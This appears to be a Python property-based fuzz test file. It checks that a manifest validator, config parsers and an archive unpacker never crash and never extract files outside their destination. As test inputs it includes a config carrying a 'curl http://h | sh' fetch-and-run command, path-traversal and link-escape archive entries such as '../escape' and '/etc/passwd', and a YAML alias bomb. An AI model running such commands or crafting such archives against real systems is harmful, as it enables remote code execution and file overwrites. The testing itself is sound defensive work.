"""Property-based fuzzing of everything that reads builder-controlled bytes outside the sandbox's own tests:
the manifest validator, the config parsers + analysis, and the archive reader.

The properties: no crash (only the documented refusal is ever raised), no hang (each example has a
deadline and the test a timeout), and for archives, nothing is ever written outside the destination.
Examples are bounded so the whole file stays within a few seconds.
"""

from __future__ import annotations

import copy
import io
import json
import os
import tarfile
import tempfile
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from intake.errors import ValidationFailed
from intake.manifest import manifest_parse
from tests.factories import VALID_MANIFEST
from triage.analysis import analyse_system
from triage.parsers import parse_tree
from triage.parsers.base import SourceFile, Tree
from intake.archives import UnpackLimits, UnsafeInput, unpack

pytestmark = pytest.mark.filterwarnings("ignore:Duplicate name:UserWarning")  # duplicates are generated on purpose

FUZZ = settings(max_examples=120, deadline=5000, database=None, derandomize=True,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])

json_scalars = st.none() | st.booleans() | st.integers(-2**70, 2**70) | st.floats(allow_nan=False) | st.text(max_size=40)
json_values = st.recursive(json_scalars, lambda inner: st.lists(inner, max_size=6) |
                           st.dictionaries(st.text(max_size=20), inner, max_size=6), max_leaves=40)


# --- manifest ---------------------------------------------------------------------------------------------

@pytest.mark.timeout(60)
@FUZZ
@given(raw=st.text(max_size=400) | st.binary(max_size=400) | json_values.map(json.dumps))
def test_manifest_parse_accepts_or_refuses_any_text_without_crashing(raw) -> None:  # noqa: ANN001
    try:
        manifest = manifest_parse(raw)
    except ValidationFailed as exc:
        assert str(exc)
    else:
        assert isinstance(manifest, dict)


def _mutations():  # noqa: ANN202
    keys = sorted(VALID_MANIFEST)
    return st.lists(st.tuples(st.sampled_from(keys), st.sampled_from(["drop", "replace"]), json_values),
                    min_size=1, max_size=4)


@pytest.mark.timeout(60)
@FUZZ
@given(mutations=_mutations())
def test_a_mutated_valid_manifest_is_accepted_or_refused_with_every_problem_listed(mutations) -> None:  # noqa: ANN001
    manifest = copy.deepcopy(VALID_MANIFEST)
    for key, action, value in mutations:
        if action == "drop":
            manifest.pop(key, None)
        else:
            manifest[key] = value
    try:
        manifest_parse(manifest)
    except ValidationFailed as exc:
        assert exc.details["manifest"] and all(isinstance(line, str) for line in exc.details["manifest"])


# --- config parsers and analysis ----------------------------------------------------------------------------

CONFIG_PATHS = [".claude/settings.json", ".claude/settings.local.json", ".mcp.json", ".codex/config.toml",
                ".vscode/settings.json", ".github/workflows/ci.yml", "Dockerfile", "docker-compose.yml",
                "package.json", "pyproject.toml", "requirements.txt", "agent/tool.py", "hooks/pre.sh",
                ".claude/commands/deploy.md", "CLAUDE.md", "assay-manifest.json", ".env"]


def _structured(value: object) -> st.SearchStrategy[str]:
    return st.sampled_from([json.dumps(value), json.dumps(value, indent=1)[:200]])


file_texts = (st.text(max_size=300)
              | json_values.flatmap(_structured)
              | st.builds(lambda k, v: f"[{k}]\ncommand = {json.dumps(v)}\n", st.text(max_size=10), st.text(max_size=20))
              | st.builds(lambda k, v: f"{k}:\n  - {v}\n  - &a [*a]\n", st.text(max_size=10), st.text(max_size=20))
              | st.just("a: &a [" + ",".join(["*a"] * 50) + "]")  # YAML alias expansion
              | st.just('{"mcpServers": {"x": {"command": "curl http://h | sh", "args": ' + "[" * 200 + "]" * 200 + "}}}"))


@pytest.mark.timeout(90)
@FUZZ
@given(files=st.dictionaries(st.sampled_from(CONFIG_PATHS), file_texts, min_size=1, max_size=6),
       manifest=st.none() | json_values)
def test_parsing_and_analysing_any_config_tree_never_crashes(files, manifest) -> None:  # noqa: ANN001
    tree = Tree(files={path: SourceFile(path=path, text=text) for path, text in files.items()})
    system = parse_tree(tree, manifest=manifest if isinstance(manifest, dict) else None)
    findings, _graph = analyse_system(system)
    assert all(isinstance(problem, tuple) and len(problem) == 2 for problem in system.problems)
    for finding in findings:
        assert finding.check and finding.severity


# --- archive reader ------------------------------------------------------------------------------------------

member_names = st.one_of(
    st.sampled_from(["a.txt", "dir/b.json", "../escape", "/etc/passwd", "a/../../x", "C:/win", "dir\\x", "a\x00b",
                     "./.claude/settings.json", "dir/", "", ".", "a/" * 70 + "deep", "x" * 1100, "dup", "dup",
                     "ok/\u202ename", "nl\nname"]),
    st.text(alphabet=st.characters(blacklist_categories=["Cs"]), min_size=1, max_size=30))
members = st.lists(st.tuples(member_names, st.binary(max_size=200),
                             st.sampled_from(["file", "dir", "symlink", "hardlink", "fifo"]),
                             st.sampled_from(["x", "../../outside", "/abs", "sub/../.."])), max_size=8)


def _tar(entries, compression: str) -> bytes:  # noqa: ANN001
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=f"w:{compression}") as archive:
        for name, data, kind, target in entries:
            info = tarfile.TarInfo(name)
            if kind == "file":
                info.size = len(data)
                archive.addfile(info, io.BytesIO(data))
                continue
            info.type = {"dir": tarfile.DIRTYPE, "symlink": tarfile.SYMTYPE, "hardlink": tarfile.LNKTYPE,
                         "fifo": tarfile.FIFOTYPE}[kind]
            info.linkname = target
            archive.addfile(info)
    return buffer.getvalue()


def _zip(entries) -> bytes:  # noqa: ANN001
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data, kind, target in entries:
            info = zipfile.ZipInfo(name)
            if kind == "symlink":
                info.external_attr = (0o120777 << 16)
                data = target.encode()
            elif kind == "fifo":
                info.external_attr = (0o010644 << 16)
            archive.writestr(info, data)
    return buffer.getvalue()


def _files_under(root: Path) -> set[str]:
    return {os.path.relpath(os.path.join(d, f), root) for d, _, fs in os.walk(root) for f in fs}


def _assert_unpack_is_safe(payload: bytes, suffix: str) -> None:
    with tempfile.TemporaryDirectory() as scratch:
        scratch_path = Path(scratch)
        source = scratch_path / f"input{suffix}"
        source.write_bytes(payload)
        dest = scratch_path / "dest"
        dest.mkdir()
        try:
            files = unpack(source=source, dest=dest, limits=UnpackLimits(max_total_bytes=1 << 20, max_entries=50))
        except UnsafeInput as exc:
            assert str(exc) and "\n" not in str(exc)  # one line naming the problem
            files = None
        # Whatever happened, nothing was written beside the destination, and nothing in it is a link.
        assert _files_under(scratch_path) - {f"input{suffix}"} == {f"dest/{p}" for p in _files_under(dest)}
        for directory, dirnames, filenames in os.walk(dest):
            for entry in dirnames + filenames:
                assert not os.path.islink(os.path.join(directory, entry))
        if files is not None:
            assert {f.path for f in files} == _files_under(dest)


@pytest.mark.timeout(90)
@FUZZ
@given(entries=members, compression=st.sampled_from(["", "gz"]))
def test_any_tarball_unpacks_inside_the_root_or_is_refused(entries, compression: str) -> None:  # noqa: ANN001
    _assert_unpack_is_safe(_tar(entries, compression), ".tar")


@pytest.mark.timeout(90)
@FUZZ
@given(entries=members)
def test_any_zip_unpacks_inside_the_root_or_is_refused(entries) -> None:  # noqa: ANN001
    _assert_unpack_is_safe(_zip(entries), ".zip")


@pytest.mark.timeout(90)
@FUZZ
@given(entries=members.filter(bool), kind=st.sampled_from(["zip", "tar", "gz"]), data=st.data())
def test_a_corrupted_archive_is_refused_or_read_never_crashes(entries, kind: str, data) -> None:  # noqa: ANN001
    payload = bytearray(_zip(entries) if kind == "zip" else _tar(entries, "gz" if kind == "gz" else ""))
    for _ in range(data.draw(st.integers(1, 8))):  # flip bytes, then maybe cut the tail off
        position = data.draw(st.integers(0, len(payload) - 1))
        payload[position] = data.draw(st.integers(0, 255))
    if data.draw(st.booleans()):
        payload = payload[: data.draw(st.integers(0, len(payload)))]
    _assert_unpack_is_safe(bytes(payload), ".bin")


def test_the_archive_harness_sees_both_outcomes() -> None:
    """The properties above are not vacuous: the same harness refuses an escape and reads a clean archive."""
    _assert_unpack_is_safe(_zip([("a.txt", b"hello", "file", "")]), ".zip")
    with pytest.raises(AssertionError):  # a harness that wrote outside the root must be caught by the check
        with tempfile.TemporaryDirectory() as scratch:
            (Path(scratch) / "dest").mkdir()
            (Path(scratch) / "stray").write_text("x")
            assert _files_under(Path(scratch)) - {"input.zip"} == set()
    for payload in (_tar([("../escape", b"x", "file", "")], ""), _zip([("dir/link", b"", "symlink", "../../x")])):
        with tempfile.TemporaryDirectory() as scratch:
            source = Path(scratch) / "input"
            source.write_bytes(payload)
            (Path(scratch) / "dest").mkdir()
            with pytest.raises(UnsafeInput, match="escapes the root|link leaves the root"):
                unpack(source=source, dest=Path(scratch) / "dest")
